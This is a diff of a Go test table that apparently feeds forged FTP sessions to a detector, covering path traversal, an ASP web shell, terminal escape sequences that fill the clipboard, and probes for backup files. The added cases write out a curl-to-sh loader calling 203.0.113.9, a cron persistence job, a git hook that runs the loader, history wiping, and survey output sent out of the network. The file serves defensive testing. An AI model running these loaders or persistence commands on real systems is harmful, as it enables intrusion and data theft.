@@ -24,7 +24,6 @@ var gravest = []lookalike{
 	{"a name that climbs, and one that some clients run", "no-climbing", "", moved("LIST", answerer, climbingLine+runningLine)},
 	{"a name that some clients run", "no-climbing", IsUnusual, moved("LIST", answerer, runningLine)},
 	{"a name that climbs, and a line that overflows", "no-climbing", "", moved("LIST", answerer, climbingLine+"-rw-r--r-- 1 0 0 9 Jan 1 2020 "+strings.Repeat("Ab1", 500)+"\r\n")},
-	{"a web shell, and a number of a card", "no-loot", "", moved("STOR a.asp", opener, "<% eval request(\"x\") %>\r\n4111 1111 1111 1111, 5500 0000 0000 0004, 3400 000000 00009, 4012 8888 8888 1881, 5105 1051 0510 5100\r\n")},
 	{"a greeting that overflows and names a window", "reply-of-normal-length", "", dialogue("< 220 \x1b]2;x\x07" + strings.Repeat("A", 600) + "\n> QUIT\n< 221 bye")},
 	{"a reply that fills the clipboard", "reply-of-normal-length", "", session1("> PWD\n< 257 \"/\" \x1b]52;c;aWQ=\x07ok")},
 	{"a name in a listing that fills the clipboard", "no-climbing", "", moved("LIST", answerer, "-rw-r--r-- 1 0 0 5 Jan 01 2024 \x1b]52;c;aWQ=\x07a\r\n")},
@@ -34,15 +33,40 @@ var gravest = []lookalike{
 	{"three files that end long before their ends", "bytes-agree", "", shortened(3, 20009, 7000)},
 	{"two files that end long before their ends", "bytes-agree", IsUnusual, shortened(2, 20009, 7000)},
 	{"files of a server that counts blocks", "bytes-agree", IsUnusual, shortened(5, 8192, 5000)},
-	{"words that others hide behind", "names-are-words", "", session1(foldersOfTexts("> MKD %s\n< 257 ok\n", 4) + countedData(24, "> CWD %s\n< 550 no\n"))},
+	{"folders that are texts, and folders that were removed", "names-are-words", "", session1(foldersOfTexts(madeAndRemoved, 7) + linesOf(madeAndRemoved, strings.Fields(digitsOf(50, "%s "))[:7]...))},
 	{"a few encoded folders", "names-are-words", IsUnusual, session1(foldersOfTexts("> MKD %s\n< 257 ok\n", 4))},
-	{"the home of root, and a disguised path", "no-climbing", "", session1("> RETR ~root/..%5c..%5cboot.ini\n< 550 no")},
 	{"data in names of as many digits as SHA-224 has", "names-are-words", "", session1(digitsOf(56, "> SIZE %s\n< 550 no\n"))},
 	{"common folders that somebody guesses", "names-are-known", "", session1(linesOf("> CWD %s\n< 550 no\n", strings.Fields("admin backup backups db www wwwroot htdocs private secret conf etc var log logs old tmp temp test dev staging root home bin")...))},
 	{"a program that looks for the folder of a site", "names-are-known", IsNormal, session1(linesOf("> CWD /%s\n< 550 no\n", strings.Fields("public_html www htdocs httpdocs web html wwwroot site")...) + "> CWD /\n< 250 ok\n")},
 	{"copies that somebody looks for", "no-sensitive-names", "", session1(linesOf("> SIZE %s\n< 550 no\n", strings.Fields("backup.zip db.sql dump.sql www.zip wp-config.php.bak .git/config")...))},
 	{"a copy that is gone", "no-sensitive-names", IsNormal, session1(linesOf("> SIZE %s\n< 550 no\n", strings.Fields("backup.zip db.sql index.php.bak")...))},
 	{"copies of each day", "no-sensitive-names", IsNormal, session1(numberedLines(12, "> SIZE backup-2026-11-%02d.zip\n< 550 no\n"))},
+	{"a hook of git that loads a program", "no-loot", "", moved("STOR .git/hooks/post-checkout", opener, loaderScript)},
+	{"a hook of git that a site has", "no-loot", IsNormal, moved("STOR .git/hooks/post-update", opener, "#!/bin/sh\nexec git update-server-info\n")},
+	{"a script that loads a program", "no-loot", IsUnusual, moved("RETR u.sh", answerer, loaderScript)},
+	{"a script that loads a program and removes traces", "no-loot", "", moved("RETR u.sh", answerer, loaderScript+"history -c\n")},
+	{"a script that removes logs of its own", "no-loot", IsUnusual, moved("RETR u.sh", answerer, loaderScript+"rm -f install.log\n")},
+	{"a script that makes a job of a program", "no-loot", "", moved("RETR u.sh", answerer, "#!/bin/sh\n(echo \"*/5 * * * * curl -s ftp://203.0.113.9/u.sh|sh\")|crontab -\n")},
+	{"a script that makes a job of what it has", "no-loot", IsNormal, moved("RETR u.sh", answerer, "#!/bin/sh\n(crontab -l; echo \"5 2 * * * /opt/app/backup.sh\")|crontab -\n")},
+	{"surveys of a domain that leave the network", "no-loot", "", surveys("Group name     Domain Admins\r\n\r\nMembers\r\nada\r\n")},
+	{"surveys that somebody sends for help", "no-loot", IsUnusual, surveys("\r\nWindows IP Configuration\r\n")},
+}
+
+// madeAndRemoved is a folder that a client makes and removes.
+const madeAndRemoved = "> MKD %[1]s\n< 257 ok\n> RMD %[1]s\n< 250 ok\n"
+
+// loaderScript is a script that runs what it fetches.
+const loaderScript = "#!/bin/sh\ncurl -s http://203.0.113.9/h | sh\n"
+
+// surveys stores at a stranger what three programs say.
+func surveys(third string) func(*forge.Capture) {
+	return func(f *forge.Capture) {
+		t := dial(f, "10.71.0.21", aServer+":21").Say(hello)
+		for i, text := range []string{"Host Name:     PC7\r\nOS Name:    Microsoft Windows 11 Pro\r\n", "Image Name        PID Session Name        Session#    Mem Usage\r\n", third} {
+			move(t, 40000+i, fmt.Sprintf("STOR %d.txt", i), text)
+		}
+		t.Say(bye).Peer.Close()
+	}
 }
 
 // shortened fetches n files of which the server says another size than they have.
